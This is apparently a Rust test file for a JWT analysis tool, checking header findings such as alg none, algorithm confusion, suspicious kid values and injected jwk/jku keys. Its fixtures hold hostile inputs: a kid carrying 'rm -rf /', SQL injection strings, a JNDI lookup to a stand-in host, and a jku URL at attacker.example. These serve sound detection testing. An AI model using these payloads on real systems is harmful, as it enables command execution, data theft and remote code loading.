//! Header and algorithm findings (findings.md, "Header and algorithm") that a
//! token alone can trigger; the codes that need key material live with the
//! signature tests.

mod common;

use common::*;
use serde_json::json;

/// A token with this header and valid claims; the signature is HS256 whatever `alg` says.
fn with_header(header: serde_json::Value) -> String {
    token(header, valid_claims())
}

#[test]
fn alg_missing() {
    let (r, code) = report(&[&with_header(json!({"typ": "JWT"}))]);
    assert_finding(&r, "alg-missing", "error");
    assert_detail(&r, "alg-missing", &[r#"{"typ":"JWT"}"#, "`alg`"]);
    assert_exit(&r, code, 1);
}

#[test]
fn alg_unknown_mis_cased() {
    let (r, code) = report(&[&with_header(json!({"alg": "hs256", "typ": "JWT"}))]);
    assert_finding(&r, "alg-unknown", "error");
    assert_detail(
        &r,
        "alg-unknown",
        &["\"hs256\"", "\"HS256\"", "case-sensitive"],
    );
    assert_eq!(finding(&r, "alg-unknown")["evidence"]["alg"], "hs256");
    assert_exit(&r, code, 1);
}

#[test]
fn alg_unknown_jwe_algorithm_in_a_signed_token() {
    let (r, code) = report(&[&with_header(json!({"alg": "RSA-OAEP"}))]);
    assert_finding(&r, "alg-unknown", "error");
    assert_detail(&r, "alg-unknown", &["\"RSA-OAEP\"", "JWE key-management"]);
    assert_exit(&r, code, 1);
}

#[test]
fn alg_unknown_not_a_string() {
    let (r, code) = report(&[&with_header(json!({"alg": 256}))]);
    assert_finding(&r, "alg-unknown", "error");
    assert_detail(&r, "alg-unknown", &["256", "not a string"]);
    assert_exit(&r, code, 1);
}

#[test]
fn alg_none() {
    let header = b64(br#"{"alg":"none","typ":"JWT"}"#);
    let payload = b64(valid_claims().to_string().as_bytes());
    let (r, code) = report(&[&format!("{header}.{payload}.")]);
    assert_finding(&r, "alg-none", "error");
    assert_detail(&r, "alg-none", &[r#""alg": "none""#, "unsigned"]);
    // `alg-none` explains the empty signature; no second finding for it.
    assert_absent(&r, "signature-missing");
    assert_exit(&r, code, 1);
}

#[test]
fn alg_none_mixed_case_with_a_signature() {
    let (r, code) = report(&[&with_header(json!({"alg": "nOnE"}))]);
    assert_finding(&r, "alg-none", "error");
    assert_detail(
        &r,
        "alg-none",
        &["\"nOnE\"", "signature segment is present"],
    );
    assert_exit(&r, code, 1);
}

#[test]
fn signature_missing() {
    let t = hs256(valid_claims());
    let (input, _) = t.rsplit_once('.').expect("three segments");
    let (r, code) = report(&[&format!("{input}.")]);
    assert_finding(&r, "signature-missing", "error");
    assert_detail(&r, "signature-missing", &["`HS256`", "stripped"]);
    assert_eq!(r["token"]["signature"]["present"], false);
    assert_absent(&r, "truncated");
    assert_absent(&r, "wrong-segment-count");
    assert_exit(&r, code, 1);
}

#[test]
fn alg_not_allowed() {
    let header = br#"{"alg":"RS256","typ":"JWT","kid":"rsa-1"}"#;
    let sig: Vec<u8> = (0..256u32).map(|i| (i * 7 % 251) as u8).collect();
    let t = raw_token(header, valid_claims().to_string().as_bytes(), &sig);
    let (r, code) = report(&[&t, "--alg", "HS256"]);
    assert_finding(&r, "alg-not-allowed", "error");
    assert_detail(
        &r,
        "alg-not-allowed",
        &["signed with RS256", "accepts only HS256", "shared secret"],
    );
    assert_eq!(
        finding(&r, "alg-not-allowed")["evidence"]["allowed"],
        json!(["HS256"])
    );
    assert_exit(&r, code, 1);

    // A comma list that holds the token's algorithm passes.
    let (r, code) = report(&[&t, "--alg", "ES256,RS256"]);
    assert_absent(&r, "alg-not-allowed");
    assert_exit(&r, code, 0);
}

#[test]
fn alg_not_allowed_hmac_token_where_asymmetric_expected() {
    let (r, code) = report(&[&hs256(valid_claims()), "--alg", "RS256", "--alg", "ES256"]);
    assert_finding(&r, "alg-not-allowed", "error");
    assert_detail(
        &r,
        "alg-not-allowed",
        &["HS256", "RS256, ES256", "algorithm-confusion"],
    );
    // The fix never suggests accepting HMAC next to a public key.
    let fix = finding(&r, "alg-not-allowed")["fix"].as_str().unwrap();
    assert!(
        fix.starts_with("Keep HS256 out of the allowed list"),
        "{fix}"
    );
    assert!(!fix.contains("allow HS256 on the server"), "{fix}");
    assert_exit(&r, code, 1);
}

#[test]
fn kid_suspicious_path_traversal() {
    let (r, code) = report(&[&with_header(
        json!({"alg": "HS256", "typ": "JWT", "kid": "../../dev/null"}),
    )]);
    assert_finding(&r, "kid-suspicious", "error");
    assert_detail(&r, "kid-suspicious", &["../../dev/null", "path traversal"]);
    assert_exit(&r, code, 1);
}

#[test]
fn kid_suspicious_sql_injection() {
    let (r, code) = report(&[&with_header(
        json!({"alg": "HS256", "kid": "k1' UNION SELECT 'secret"}),
    )]);
    assert_finding(&r, "kid-suspicious", "error");
    assert_detail(&r, "kid-suspicious", &["SQL injection"]);
    assert_exit(&r, code, 1);
}

#[test]
fn kid_suspicious_separators_conditions_and_line_breaks() {
    for (kid, what) in [
        ("a; rm -rf /", "command or statement separator"),
        ("a;ls", "command or statement separator"),
        ("1 OR 1=1", "SQL injection"),
        ("k1\nX-Injected: yes", "a line break"),
        ("k1\u{1b}[2J", "terminal escape sequence"),
        ("k1\u{7}", "a control character"),
        ("${jndi:ldap://x.example/a}", "JNDI lookup"),
        ("1' AND SLEEP(5)", "SQL injection"),
    ] {
        let (r, code) = report(&[&with_header(json!({"alg": "HS256", "kid": kid}))]);
        assert_finding(&r, "kid-suspicious", "error");
        assert_detail(&r, "kid-suspicious", &[what]);
        assert_exit(&r, code, 1);
    }
}

#[test]
fn ordinary_kid_is_not_suspicious() {
    for kid in [
        "2023-11-rotation_key-01",
        "nOo3ZDrODXEK1jKWhXslHR_KXEg",
        "arn:aws:kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab",
        "vault:v1:signing",
        "NjVBRjY5MDlCMUIwNzU4RTA2QzZFMDQ4QzQ2MDAyQjVDNjk1RTM2Qg",
        "key for orders",
    ] {
        let (r, _) = report(&[&with_header(json!({"alg": "HS256", "kid": kid}))]);
        assert_absent(&r, "kid-suspicious");
    }
}

#[test]
fn header_key_injection_jwk() {
    let jwk = json!({"kty": "RSA", "kid": "attacker", "e": "AQAB", "n": "x".repeat(342)});
    let (r, code) = report(&[&with_header(json!({"alg": "RS256", "jwk": jwk}))]);
    assert_finding(&r, "header-key-injection", "error");
    assert_detail(&r, "header-key-injection", &["`jwk`"]);
    // The embedded key is summarised, not echoed.
    let shown = &r["token"]["header"]["jwk"];
    assert_eq!(shown["kty"], "RSA", "{shown:#}");
    assert!(shown.get("n").is_none(), "key material echoed: {shown:#}");
    assert_exit(&r, code, 1);
}

#[test]
fn header_key_injection_jku() {
    let (r, code) = report(&[&with_header(
        json!({"alg": "RS256", "jku": "https://attacker.example/jwks.json"}),
    )]);
    assert_finding(&r, "header-key-injection", "error");
    assert_detail(
        &r,
        "header-key-injection",
        &["`jku`", "jku → https://attacker.example/jwks.json"],
    );
    assert_exit(&r, code, 1);
}

#[test]
fn crit_unsupported() {
    let (r, code) = report(&[&with_header(
        json!({"alg": "HS256", "crit": ["b64"], "b64": false}),
    )]);
    assert_finding(&r, "crit-unsupported", "error");
    assert_detail(&r, "crit-unsupported", &["\"b64\"", "RFC 7515"]);
    assert_exit(&r, code, 1);
}

/// jose's `crit: {'urn:example:ext': true}`: the server implements it.
#[test]
fn crit_the_server_implements_is_fine() {
    let t = with_header(json!({"alg": "HS256", "crit": ["urn:example:ext"], "urn:example:ext": 1}));
    let (r, _) = report(&[&t]);
    assert_detail(&r, "crit-unsupported", &["--crit NAME"]);
    let (r, _) = report(&[&t, "--crit", "urn:example:ext"]);
    assert_absent(&r, "crit-unsupported");
}

#[test]
fn crit_unsupported_not_an_array() {
    let (r, code) = report(&[&with_header(json!({"alg": "HS256", "crit": "exp"}))]);
    assert_finding(&r, "crit-unsupported", "error");
    assert_detail(&r, "crit-unsupported", &["\"exp\"", "non-empty array"]);
    assert_exit(&r, code, 1);
}

#[test]
fn id_token_as_access_token() {
    let claims = claims_with(json!({
        "aud": "my-spa-client",
        "nonce": "n-0S6_WzA2Mj",
        "at_hash": "77QmUPtjPfzWtF2AnpK9RQ",
    }));
    let (r, code) = report(&[&hs256(claims), "--aud", AUD]);
    assert_finding(&r, "id-token-as-access-token", "error");
    assert_detail(
        &r,
        "id-token-as-access-token",
        &["`nonce`, `at_hash`", "\"my-spa-client\"", AUD],
    );
    assert_exit(&r, code, 1);
}

/// A Google-issued JWT for an OAuth client id is an ID token (Google's
/// access tokens are opaque), nonce or not; its own backend may verify it.
#[test]
fn google_id_token_without_nonce_is_an_id_token() {
    let client = "1234-abc.apps.googleusercontent.com";
    let claims =
        claims_with(json!({"iss": "https://accounts.google.com", "aud": client, "azp": client}));
    let t = hs256(claims);
    let (r, code) = report(&[&t, "--aud", AUD]);
    assert_detail(&r, "id-token-as-access-token", &["Google ID token", client]);
    assert_exit(&r, code, 1);
    let (r, _) = report(&[&t, "--aud", client]);
    assert_absent(&r, "id-token-as-access-token");
}

/// python-jose checking `at_hash` is the client verifying its own ID token.
#[test]
fn an_at_hash_error_is_an_id_token_verifier_not_misuse() {
    let claims = claims_with(
        json!({"aud": "my-spa-client", "nonce": "n-1", "at_hash": "77QmUPtjPfzWtF2AnpK9RQ"}),
    );
    let (r, _) = report(&[
        &hs256(claims),
        "--aud",
        "my-spa-client",
        "--error",
        "jose.exceptions.JWTClaimsError: at_hash claim does not match access_token.",
    ]);
    assert_absent(&r, "id-token-as-access-token");
}

#[test]
fn cognito_id_token_is_an_id_token() {
    // Cognito's own sign-in API (InitiateAuth) returns ID tokens without
    // nonce or at_hash; `token_use` is what marks them.
    let claims = claims_with(json!({"aud": "3n4b5urk1ft4fl3mg5e62d9ado", "token_use": "id"}));
    let (r, code) = report(&[&hs256(claims), "--aud", AUD]);
    assert_finding(&r, "id-token-as-access-token", "error");
    assert_detail(
        &r,
        "id-token-as-access-token",
        &["`token_use` \"id\" (Amazon Cognito's ID token)"],
    );
    assert_exit(&r, code, 1);
    let access = claims_with(json!({"token_use": "access"}));
    let (r, _) = report(&[&hs256(access)]);
    assert_absent(&r, "id-token-as-access-token");
}

#[test]
fn access_token_typ_is_not_an_id_token() {
    let claims = claims_with(json!({"nonce": "n-0S6_WzA2Mj"}));
    let (r, _) = report(&[&token(json!({"alg": "HS256", "typ": "at+jwt"}), claims)]);
    assert_absent(&r, "id-token-as-access-token");
}
